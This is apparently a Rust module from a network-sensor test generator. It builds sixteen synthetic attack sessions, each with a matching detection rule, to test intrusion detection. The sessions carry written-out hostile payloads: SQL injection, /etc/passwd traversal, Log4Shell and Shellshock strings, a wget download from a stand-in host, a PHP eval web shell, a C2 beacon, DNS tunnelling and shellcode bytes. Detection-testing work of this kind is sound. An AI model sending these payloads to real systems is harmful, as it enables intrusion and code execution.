//! Attacks to mix into other traffic, each with a rule that detects it.
//!
//! They look like attacks that a sensor sees every day, but they are harmless: none of them works against any target. Every
//! session of an attack must raise its rule at least once, and no other session may raise it.

use super::kinds::web;
use super::session::{ACK, RST, SYN, Session};
use super::template::Dir::{Client, Server};

/// An attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Identifier of its rule.
    pub(crate) sid: u32,
    /// The rule's text up to `sid`.
    rule: &'static str,
    build: fn(&mut Session<'_>),
}

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "sql-injection",
        sid: 9_099_001,
        rule: r#"alert http any any -> any any (msg:"LAB SQL injection in a query"; flow:established,to_server; http.uri; content:"union select"; nocase; "#,
        build: |s| http(s, "GET", "/items?id=1%27%20UNION%20SELECT%20user,password%20FROM%20accounts--", "", ""),
    },
    Attack {
        name: "path-traversal",
        sid: 9_099_002,
        rule: r#"alert http any any -> any any (msg:"LAB path traversal"; flow:established,to_server; http.uri.raw; content:"../../../../etc/passwd"; "#,
        build: |s| http(s, "GET", "/download?file=../../../../etc/passwd", "", ""),
    },
    Attack {
        name: "log4shell",
        sid: 9_099_003,
        rule: r#"alert http any any -> any any (msg:"LAB lookup in a header"; flow:established,to_server; http.header; content:"${jndi:ldap://"; "#,
        build: |s| http(s, "GET", "/", "X-Api-Version: ${jndi:ldap://192.0.2.66:1389/a}\r\n", ""),
    },
    Attack {
        name: "shellshock",
        sid: 9_099_004,
        rule: r#"alert http any any -> any any (msg:"LAB function definition in a header"; flow:established,to_server; http.header; content:"() {"; "#,
        build: |s| http(s, "GET", "/cgi-bin/status", "Referer: () { :;}; /bin/bash -c id\r\n", ""),
    },
    Attack {
        name: "command-injection",
        sid: 9_099_005,
        rule: r#"alert http any any -> any any (msg:"LAB command in a form"; flow:established,to_server; http.method; content:"POST"; http.request_body; content:"%3Bwget+http"; "#,
        build: |s| {
            http(
                s,
                "POST",
                "/setup.cgi",
                "Content-Type: application/x-www-form-urlencoded\r\n",
                "ping_ip=127.0.0.1%3Bwget+http%3A%2F%2F192.0.2.66%2Fm.sh",
            )
        },
    },
    Attack {
        name: "web-shell",
        sid: 9_099_006,
        rule: r#"alert http any any -> any any (msg:"LAB web shell upload"; flow:established,to_server; http.request_body; content:"<?php @eval($_POST"; "#,
        build: |s| {
            http(s, "POST", "/upload.php", "Content-Type: application/octet-stream\r\n", "<?php @eval($_POST['x']); ?>")
        },
    },
    Attack {
        name: "c2-beacon",
        sid: 9_099_007,
        rule: r#"alert http any any -> any any (msg:"LAB beacon"; flow:established,to_server; http.user_agent; content:"Beacon/0.9 lab"; bsize:14; "#,
        build: beacon,
    },
    Attack {
        name: "malware-domain-dns",
        sid: 9_099_008,
        rule: r#"alert dns any any -> any any (msg:"LAB query for a known bad name"; dns.query; content:"evil-update.example"; nocase; endswith; "#,
        build: |s| query(s, "cdn.evil-update.example", 1),
    },
    Attack {
        name: "dns-tunnel",
        sid: 9_099_009,
        rule: r#"alert dns any any -> any any (msg:"LAB tunnel in DNS"; dns.query; content:".t.tunnel.example"; endswith; bsize:>100; "#,
        build: |s| {
            let name: Vec<String> = (0..3).map(|_| s.rng.word(50)).collect();
            query(s, &format!("{}.t.tunnel.example", name.join(".")), 16);
        },
    },
    Attack {
        name: "malware-domain-tls",
        sid: 9_099_010,
        rule: r#"alert tls any any -> any any (msg:"LAB TLS to a known bad name"; flow:established,to_server; tls.sni; content:"evil-update.example"; endswith; "#,
        build: |s| {
            let mut t = s.open(0, 443);
            let hello = super::kinds::client_hello(s, "login.evil-update.example");
            s.send(&mut t, Client, &hello);
            // handshake_failure
            s.send(&mut t, Server, &[21, 3, 3, 0, 2, 2, 40]);
            s.close(&mut t, Server);
        },
    },
    Attack {
        name: "ssh-scanner",
        sid: 9_099_011,
        rule: r#"alert tcp any any -> any 22 (msg:"LAB SSH scanner"; flow:established,to_server; content:"SSH-2.0-libssh_0.1"; depth:18; "#,
        build: |s| {
            let mut t = s.open(0, 22);
            s.send(&mut t, Server, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n");
            s.send(&mut t, Client, b"SSH-2.0-libssh_0.1\r\n");
            s.close(&mut t, Client);
        },
    },
    Attack {
        name: "ftp-site-exec",
        sid: 9_099_012,
        rule: r#"alert tcp any any -> any 21 (msg:"LAB FTP SITE EXEC"; flow:established,to_server; content:"SITE EXEC "; "#,
        build: |s| {
            let mut t = s.open(0, 21);
            s.send(&mut t, Server, b"220 FTP server ready.\r\n");
            s.send(&mut t, Client, b"USER ftp\r\n");
            s.send(&mut t, Server, b"331 Password please.\r\n");
            s.send(&mut t, Client, b"PASS lab@example.net\r\n");
            s.send(&mut t, Server, b"230 Login successful.\r\n");
            s.send(&mut t, Client, b"SITE EXEC %p%p%p%p|%n\r\n");
            s.send(&mut t, Server, b"500 Unknown SITE command.\r\n");
            s.close(&mut t, Client);
        },
    },
    Attack {
        name: "mail-with-program",
        sid: 9_099_013,
        rule: r#"alert tcp any any -> any 25 (msg:"LAB program as attachment"; flow:established,to_server; content:"filename=|22|invoice.pdf.exe|22|"; "#,
        build: |s| {
            let mut t = s.open(0, 25);
            s.send(&mut t, Server, b"220 mx1.example.com ESMTP\r\n");
            for (ask, answer) in [
                ("EHLO dialup.example.net\r\n", "250 mx1.example.com\r\n"),
                ("MAIL FROM:<billing@example.org>\r\n", "250 Ok\r\n"),
                ("RCPT TO:<anna@example.com>\r\n", "250 Ok\r\n"),
                ("DATA\r\n", "354 go on\r\n"),
            ] {
                s.send(&mut t, Client, ask.as_bytes());
                s.send(&mut t, Server, answer.as_bytes());
            }
            let file = super::kinds::base64(s, 3000);
            let mail = format!(
                "From: <billing@example.org>\r\nTo: <anna@example.com>\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\n\
                 Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\
                 Content-Disposition: attachment; filename=\"invoice.pdf.exe\"\r\n\r\nTVqQAAMAAAAEAAAA\r\n{file}\r\n.\r\n"
            );
            s.send(&mut t, Client, mail.as_bytes());
            s.send(&mut t, Server, b"250 Ok: queued\r\n");
            s.send(&mut t, Client, b"QUIT\r\n");
            s.send(&mut t, Server, b"221 Bye\r\n");
            s.close(&mut t, Server);
        },
    },
    Attack {
        name: "sip-scanner",
        sid: 9_099_014,
        rule: r#"alert udp any any -> any 5060 (msg:"LAB SIP scanner"; content:"User-Agent: friendly-scanner"; "#,
        build: |s| {
            let m = "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.66:5060;branch=z9hG4bK-1\r\nMax-Forwards: 70\r\n\
                     From: <sip:100@192.0.2.1>;tag=6331\r\nTo: <sip:100@192.0.2.1>\r\nCall-ID: 845\r\nCSeq: 1 OPTIONS\r\n\
                     User-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n";
            s.udp(Client, 0, 5060, m.as_bytes());
        },
    },
    Attack {
        name: "port-scan",
        sid: 9_099_015,
        rule: r#"alert tcp any any -> any [23,135,139,445,1433,3389,5900,6379] (msg:"LAB scan of service ports"; flags:S,CE; flow:to_server; threshold:type both, track by_src, count 5, seconds 10; "#,
        build: scan,
    },
    Attack {
        name: "shellcode",
        sid: 9_099_016,
        rule: r#"alert tcp any any -> any any (msg:"LAB shellcode"; flow:established,to_server; content:"|90 90 90 90 90 90 90 90 90 90 90 90 90 90 90 90 eb 1f 5e 89 76 08 31 c0|"; "#,
        build: |s| {
            let mut t = s.open(0, 4444);
            let mut data = s.rng.bytes(200);
            data.extend([0x90; 64]);
            data.extend([0xeb, 0x1f, 0x5e, 0x89, 0x76, 0x08, 0x31, 0xc0, 0x88, 0x46, 0x07]);
            s.send(&mut t, Client, &data);
            s.close(&mut t, Server);
        },
    },
];

impl Attack {
    pub(crate) fn build(&self, s: &mut Session<'_>) {
        (self.build)(s);
    }

    /// Whether a session has several flows. The rule is then raised on any one of them, with the client that the ground truth names.
    pub(crate) fn by_source(&self) -> bool {
        self.name == "port-scan"
    }
}

pub(crate) fn parse(text: &str) -> Result<usize, String> {
    ATTACKS.iter().position(|a| a.name == text).ok_or_else(|| {
        let names: Vec<&str> = ATTACKS.iter().map(|a| a.name).collect();
        format!("'{text}' is no attack; there are {}", names.join(", "))
    })
}

/// The text of these attacks' rules.
pub(crate) fn rules(which: &[usize]) -> String {
    which.iter().filter_map(|&n| ATTACKS.get(n)).map(|a| format!("{}sid:{}; rev:1;)\n", a.rule, a.sid)).collect()
}

fn http(s: &mut Session<'_>, method: &str, path: &str, more: &str, body: &str) {
    let host = super::kinds::host(s);
    let mut t = s.open(0, 80);
    let more = if body.is_empty() { more.to_owned() } else { format!("{more}Content-Length: {}\r\n", body.len()) };
    let head = web::request(s, method, path, &host, &more);
    s.send(&mut t, Client, format!("{head}{body}").as_bytes());
    let answer = web::response("403 Forbidden", "text/html", b"<html><body>Forbidden</body></html>");
    s.send(&mut t, Server, &answer);
    s.close(&mut t, Client);
}

fn beacon(s: &mut Session<'_>) {
    let id = s.rng.word(16);
    let mut t = s.open(0, 80);
    for _ in 0..3 {
        let ask = format!(
            "GET /poll?id={id} HTTP/1.1\r\nHost: 192.0.2.66\r\nUser-Agent: Beacon/0.9 lab\r\nConnection: keep-alive\r\n\r\n"
        );
        s.send(&mut t, Client, ask.as_bytes());
        s.send(&mut t, Server, &web::response("204 No Content", "text/plain", b""));
        s.wait(400_000_000);
    }
    s.close(&mut t, Client);
}

fn query(s: &mut Session<'_>, name: &str, kind: u16) {
    let id = s.rng.next() as u16;
    s.udp(Client, 0, 53, &web::message(id, 0x0100, name, kind, &[], false));
    let turn = s.turn();
    s.wait(turn);
    s.udp(Server, 0, 53, &web::message(id, 0x8183, name, kind, &[], true));
}

fn scan(s: &mut Session<'_>) {
    for (n, port) in [23, 135, 139, 445, 1433, 3389, 5900, 6379].into_iter().enumerate() {
        let mut t = s.stream(n as u16, port);
        let at = s.now;
        s.segment(at, &mut t, Client, SYN, &[]);
        let turn = s.turn();
        s.segment(at + turn, &mut t, Server, RST | ACK, &[]);
        s.wait(turn + 5_000_000);
    }
}
